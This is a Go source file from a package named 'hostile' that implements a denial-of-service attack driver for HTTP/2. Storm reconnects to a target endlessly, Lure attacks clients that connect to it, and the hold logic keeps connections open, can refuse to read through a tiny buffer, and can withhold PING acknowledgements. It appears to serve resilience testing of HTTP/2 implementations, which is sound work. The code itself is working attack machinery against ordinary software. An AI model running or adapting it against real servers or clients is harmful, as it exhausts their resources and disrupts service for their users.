// SPDX-License-Identifier: Apache-2.0

package hostile

import (
	"context"
	"crypto/tls"
	"io"
	"net"
	"sync/atomic"

	"golang.org/x/net/http2"
)

// Target is whom to attack, and how hard.
type Target struct {
	// Address is a host and a port.
	Address string
	// From is the address that connections come from; nil leaves it to the system.
	From net.IP
	// Pace, if set, is called before each connection and each write, and waits as long as the attacker has to.
	Pace func()
	// Tally counts what was done, if set.
	Tally *Tally
}

// Tally counts what an attacker did.
type Tally struct {
	Connections atomic.Int64
	Bytes       atomic.Int64 // as written to TCP
}

// Storm attacks until ctx ends: whenever a connection is lost, the next one is made at once.
func Storm(ctx context.Context, t Target, a Attack) {
	for ctx.Err() == nil {
		if t.Pace != nil {
			t.Pace()
		}
		d := net.Dialer{}
		if t.From != nil {
			d.LocalAddr = &net.TCPAddr{IP: t.From}
		}
		raw, err := d.DialContext(ctx, "tcp", t.Address)
		if err != nil {
			continue // a victim that takes no connections any more is one that the attack won over; whoever watches it will say so
		}
		strike(ctx, Client, t, a, raw)
	}
}

// Lure attacks whoever connects, as a server, until ctx ends. It closes l.
func Lure(ctx context.Context, l net.Listener, t Target, a Attack) {
	defer context.AfterFunc(ctx, func() { l.Close() })()
	live := make(chan struct{}, 64)
	for {
		raw, err := l.Accept()
		if err != nil {
			break
		}
		live <- struct{}{}
		go func() {
			defer func() { <-live }()
			strike(ctx, Server, t, a, raw)
		}()
	}
	l.Close()
	for range cap(live) {
		live <- struct{}{} // all of them have ended
	}
}

// strike attacks on one connection until the peer or ctx ends it.
func strike(ctx context.Context, role Role, t Target, a Attack, nc net.Conn) {
	defer nc.Close()
	defer context.AfterFunc(ctx, func() { nc.Close() })()
	if tcp, ok := nc.(*net.TCPConn); ok && a.Deaf {
		_ = tcp.SetReadBuffer(4 << 10) // if it cannot be small the attack takes longer
	}
	raw := nc
	if t.Tally != nil {
		t.Tally.Connections.Add(1)
		raw = counted{nc, &t.Tally.Bytes}
	}
	p := newPeer(ctx, role, t, raw)
	if a.From < Connected && !p.encrypt() {
		return
	}
	if a.From < Encrypted && !p.greet() {
		return
	}
	if a.Deaf {
		defer close(p.ended)
	} else {
		defer func() { <-p.ended }()
		defer nc.Close()
		go p.listen(a)
	}
	a.Do(p)
	p.hold(a)
}

// hold keeps the connection until the peer or the siege ends it.
func (p *Peer) hold(a Attack) {
	for {
		p.Flush()
		if p.failed {
			return
		}
		if a.Deaf {
			<-p.ctx.Done()
			return
		}
		select {
		case payload := <-p.pings:
			if a.Polite {
				p.Frame(http2.FramePing, http2.FlagPingAck, 0, payload[:])
			}
		case <-p.ctx.Done():
			return
		case <-p.ended:
			return
		}
	}
}

// counted counts what is written.
type counted struct {
	net.Conn
	bytes *atomic.Int64
}

func (c counted) Write(b []byte) (int, error) {
	c.bytes.Add(int64(len(b)))
	return c.Conn.Write(b)
}

func (p *Peer) encrypt() bool {
	conf := TLS().Clone()
	p.keys = &keyLog{}
	conf.KeyLogWriter = p.keys
	secure := tls.Client(p.Raw, conf)
	if p.role == Server {
		secure = tls.Server(p.Raw, conf)
	}
	if secure.HandshakeContext(p.ctx) != nil {
		return false
	}
	p.Conn = secure
	return true
}

func (p *Peer) greet() bool {
	if p.role == Server {
		if _, err := io.ReadFull(p.Conn, make([]byte, len(http2.ClientPreface))); err != nil {
			return false
		}
	} else {
		p.Write([]byte(http2.ClientPreface))
	}
	p.Settings()
	p.Frame(http2.FrameSettings, http2.FlagSettingsAck, 0, nil)
	p.Flush()
	return !p.failed
}
